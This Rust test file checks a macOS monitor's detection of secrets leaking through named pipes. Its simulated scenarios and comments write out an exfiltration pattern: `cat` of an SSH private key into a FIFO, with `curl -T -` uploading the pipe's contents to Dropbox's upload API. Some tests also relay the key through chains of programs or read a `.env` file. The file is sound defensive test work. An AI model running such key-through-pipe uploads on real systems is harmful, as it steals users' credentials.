//! Data that goes through a named pipe: its two ends are opened, by processes that nothing else joins.

use super::world::*;

const KEY: &str = "/Users/alice/.ssh/id_rsa";
const CAT: Program = apple("/bin/cat", "com.apple.cat");
const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const PIPE: (&str, u64) = ("/private/tmp/p", 4711);
const OTHER: (&str, u64) = ("/private/tmp/q", 4712);
/// As `<`, `>` and `<>` of a shell open it.
const IN: u32 = 0x1;
const OUT: u32 = 0x2 | 0x400;
const BOTH: u32 = 0x3;

fn shell(w: &mut World) -> Proc {
    w.launch(0.0, ZSH, &["-zsh"])
}

/// `cat <file> > <fifo> &`: the shell's child opens the FIFO before it becomes cat.
fn cat(w: &mut World, shell: &Proc, at: f64, file: &str, fifo: (&str, u64)) -> Proc {
    let child = w.fork(at, shell);
    w.open_fifo(at + 0.01, &child, fifo, OUT);
    let cat = w.exec(at + 0.02, &child, CAT, &["cat", file]);
    w.open(at + 0.03, &cat, file);
    cat
}

/// `curl -T - <host> < <fifo>`
fn curl(w: &mut World, shell: &Proc, at: f64, fifo: (&str, u64)) -> Proc {
    let child = w.fork(at, shell);
    w.open_fifo(at + 0.005, &child, fifo, IN);
    w.exec(at + 0.006, &child, CURL, &["curl", "-T", "-", "https://content.dropboxapi.com/2/files/upload"])
}

fn came_by_pipe(told: &Told) {
    let alert = told.alert();
    assert_eq!(alert.reads[0].path.to_string(), KEY);
    assert!(alert.hops.iter().any(|hop| hop.kind.as_str() == "pipe"), "{:?}", alert.hops);
}

/// Whoever opens its end first: the reader before, between or after what the writer does.
#[test]
fn through_a_named_pipe_in_any_order() {
    for at in [0.9, 1.015, 1.5] {
        let mut w = World::new();
        let shell = shell(&mut w);
        cat(&mut w, &shell, 1.0, KEY, PIPE);
        let curl = curl(&mut w, &shell, at, PIPE);
        w.upload(2.0, &curl, "content.dropboxapi.com", 5_000);
        came_by_pipe(&w.tell());
    }
}

/// A thief that read long before it opened the pipe, and a program in between.
#[test]
fn read_before_and_relayed() {
    let mut w = World::new();
    let thief = w.launch(0.0, adhoc("/private/tmp/x", "x"), &["x"]);
    let relay = w.launch(0.1, adhoc("/private/tmp/y", "y"), &["y"]);
    let sender = w.launch(0.2, adhoc("/private/tmp/z", "z"), &["z"]);
    w.open(1.0, &thief, KEY);
    w.open_fifo(2.0, &sender, OTHER, IN);
    w.open_fifo(2.1, &relay, OTHER, OUT);
    w.open_fifo(2.2, &relay, PIPE, IN);
    w.open_fifo(3.0, &thief, PIPE, OUT);
    w.upload(4.0, &sender, "content.dropboxapi.com", 5_000);
    came_by_pipe(&w.tell());
}

/// Where the events have no inode it is the path that joins them.
#[test]
fn told_by_its_path() {
    for (path, same) in [("/tmp/p", true), ("/tmp/P", true), ("/tmp/q", false)] {
        let mut w = World::new();
        let shell = shell(&mut w);
        cat(&mut w, &shell, 1.0, KEY, ("/private/tmp/p", 0));
        let curl = curl(&mut w, &shell, 1.1, (path, 0));
        w.upload(2.0, &curl, "content.dropboxapi.com", 5_000);
        let told = w.tell();
        if same { came_by_pipe(&told) } else { told.none() }
    }
}

/// `exec 3<> p`, so that neither waits for the other.
#[test]
fn held_open_by_the_shell() {
    let mut w = World::new();
    let shell = shell(&mut w);
    w.open_fifo(0.5, &shell, PIPE, BOTH);
    cat(&mut w, &shell, 1.0, KEY, PIPE);
    let curl = curl(&mut w, &shell, 1.5, PIPE);
    w.upload(2.0, &curl, "content.dropboxapi.com", 5_000);
    came_by_pipe(&w.tell());
}

/// `exec 3> p` in one shell and `exec 3< p` in another; what they start has these open (`cat key >&3`, `curl .. <&3`).
#[test]
fn open_already_in_what_a_shell_starts() {
    let mut w = World::new();
    let (one, other) = (shell(&mut w), shell(&mut w));
    w.open_fifo(0.5, &one, PIPE, OUT);
    w.open_fifo(0.6, &other, PIPE, IN);
    let cat = w.spawn(1.0, &one, CAT, &["cat", KEY]);
    w.open(1.1, &cat, KEY);
    let curl =
        w.spawn(1.2, &other, CURL, &["curl", "-T", "-", "https://content.dropboxapi.com/2/files/upload"]);
    w.upload(2.0, &curl, "content.dropboxapi.com", 5_000);
    came_by_pipe(&w.tell());
}

/// The key goes nowhere: another pipe, another direction, or a writer that has nothing.
#[test]
fn twins_nothing_sensitive_comes_through() {
    let told = |story: fn(&mut World, &Proc) -> Proc| {
        let mut w = World::new();
        let shell = shell(&mut w);
        let sender = story(&mut w, &shell);
        w.upload(2.0, &sender, "content.dropboxapi.com", 5_000);
        w.tell()
    };
    told(|w, shell| {
        cat(w, shell, 1.0, KEY, OTHER);
        curl(w, shell, 1.5, PIPE)
    })
    .none();
    told(|w, shell| {
        cat(w, shell, 1.0, "/Users/alice/notes.txt", PIPE);
        curl(w, shell, 1.5, PIPE)
    })
    .none();
    told(|w, shell| {
        let reader = w.launch(0.5, CAT, &["cat", KEY]);
        w.open(0.6, &reader, KEY);
        w.open_fifo(1.0, &reader, PIPE, IN);
        let writer = w.fork(1.1, shell);
        w.open_fifo(1.2, &writer, PIPE, OUT);
        w.exec(1.3, &writer, CURL, &["curl", "https://content.dropboxapi.com/"])
    })
    .none();
}

/// The tokens of a build go round in a named pipe that all its parts open both ways: they are strangers to each other.
#[test]
fn twin_tokens_of_a_build() {
    for both in [&[IN, OUT][..], &[BOTH]] {
        let mut w = World::new();
        let make = w.launch(0.0, adhoc("/opt/homebrew/bin/gmake", "gmake"), &["gmake", "-j8"]);
        let part = |w: &mut World, at: f64| {
            let part = w.spawn(at, &make, adhoc("/opt/homebrew/bin/gmake", "gmake"), &["gmake"]);
            for (n, flags) in both.iter().enumerate() {
                w.open_fifo(at + 0.1 + n as f64 * 0.01, &part, ("/private/tmp/GMfifo99", 99), *flags);
            }
            part
        };
        let signs = part(&mut w, 1.0);
        w.open(1.5, &signs, KEY);
        let sends = part(&mut w, 1.6);
        w.upload(2.0, &sends, "content.dropboxapi.com", 5_000);
        w.tell().none();
    }
}

/// A password manager shows `.env` as a FIFO: that is where the program reads its secrets.
#[test]
fn secrets_shown_as_a_fifo() {
    let mut w = World::new();
    let x = w.launch(0.0, adhoc("/private/tmp/x", "x"), &["x"]);
    w.open_fifo(1.0, &x, ("/Users/alice/src/app/.env", 88), IN);
    w.upload(2.0, &x, "content.dropboxapi.com", 5_000);
    assert_eq!(w.tell().alert().reads[0].path.to_string(), "/Users/alice/src/app/.env");
}

/// Whoever makes a FIFO while it carries something has put nothing into it.
#[test]
fn twin_a_fifo_holds_nothing() {
    let mut w = World::new();
    let maker = w.launch(0.0, adhoc("/private/tmp/x", "x"), &["x"]);
    w.open(1.0, &maker, KEY);
    w.write_inode(1.1, &maker, PIPE.0, PIPE.1);
    let reader = w.launch(0.1, adhoc("/private/tmp/y", "y"), &["y"]);
    w.open_fifo(2.0, &reader, PIPE, IN);
    w.upload(3.0, &reader, "content.dropboxapi.com", 5_000);
    w.tell().none();
}

/// The reader was gone before anything came.
#[test]
fn twin_another_reader_before() {
    let mut w = World::new();
    let shell = shell(&mut w);
    let curl = curl(&mut w, &shell, 0.1, PIPE);
    w.upload(0.2, &curl, "content.dropboxapi.com", 5_000);
    w.exit(0.5, &curl);
    cat(&mut w, &shell, 5.0, KEY, PIPE);
    w.tell().none();
}

/// As many programs as there can be, each reading what the one before it writes.
#[test]
fn a_chain_of_a_thousand() {
    let mut w = World::new();
    let programs: Vec<Proc> = (0..1000u64)
        .map(|n| {
            let at = n as f64 * 0.001;
            let program = w.launch(at, CAT, &["cat"]);
            w.open_fifo(at + 0.000_2, &program, ("/private/tmp/p", 100 + n), IN);
            w.open_fifo(at + 0.000_3, &program, ("/private/tmp/p", 101 + n), OUT);
            program
        })
        .collect();
    w.open(5.0, &programs[0], KEY);
    w.upload(6.0, &programs[999], "content.dropboxapi.com", 5_000);
    came_by_pipe(&w.tell());
}

/// Applications is for whoever administers the Mac; only what lies in an app is Apple's or its maker's.
#[test]
fn beside_the_applications() {
    for (path, seen) in [("/Applications/p", true), ("/Applications/Utilities/x.pipe", true)] {
        let mut w = World::new();
        let shell = shell(&mut w);
        cat(&mut w, &shell, 1.0, KEY, (path, 4711));
        let curl = curl(&mut w, &shell, 1.5, (path, 4711));
        w.upload(2.0, &curl, "content.dropboxapi.com", 5_000);
        let told = w.tell();
        if seen { came_by_pipe(&told) } else { told.none() }
    }
}
